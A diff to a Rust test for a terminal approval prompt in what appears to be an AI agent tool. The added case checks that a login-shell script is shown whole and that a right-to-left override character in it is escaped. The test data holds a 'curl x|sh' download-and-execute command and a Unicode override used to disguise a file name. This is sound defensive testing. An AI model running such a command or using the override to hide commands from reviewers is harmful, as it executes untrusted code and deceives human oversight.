@@ -430,7 +430,7 @@ mod tests {
         // Before: the title and paths went to the terminal as the agent wrote them, so an
         // escape sequence could erase or recolour the line, and a newline in a path could
         // print a forged `why` line under it.
-        let a = Approval {
+        let mut a = Approval {
             id: "a1".into(),
             task_id: legate_core::TaskId("t1".into()),
             agent: "worker".into(),
@@ -465,6 +465,20 @@ mod tests {
                 .count(),
             1,
             "{lines:?}"
+        );
+        // A login shell is not one plain command: its argv is shown whole as sent, with a
+        // right-to-left override escaped (issue 29, findings 2 and 7).
+        a.tool.command = None;
+        a.tool.script = Some("[\"bash\",\"-lc\",\"touch a; curl x|sh #\u{202e}txt.exe\"]".into());
+        let lines = approval_lines(&a, Timestamp(0));
+        let runs = lines
+            .iter()
+            .find(|l| l.trim_start().starts_with("runs"))
+            .unwrap_or_else(|| panic!("{lines:?}"));
+        assert!(runs.contains("-lc") && runs.contains("curl x|sh"), "{runs}");
+        assert!(
+            !runs.contains('\u{202e}') && runs.contains("\\u{202e}"),
+            "{runs}"
         );
     }
 }
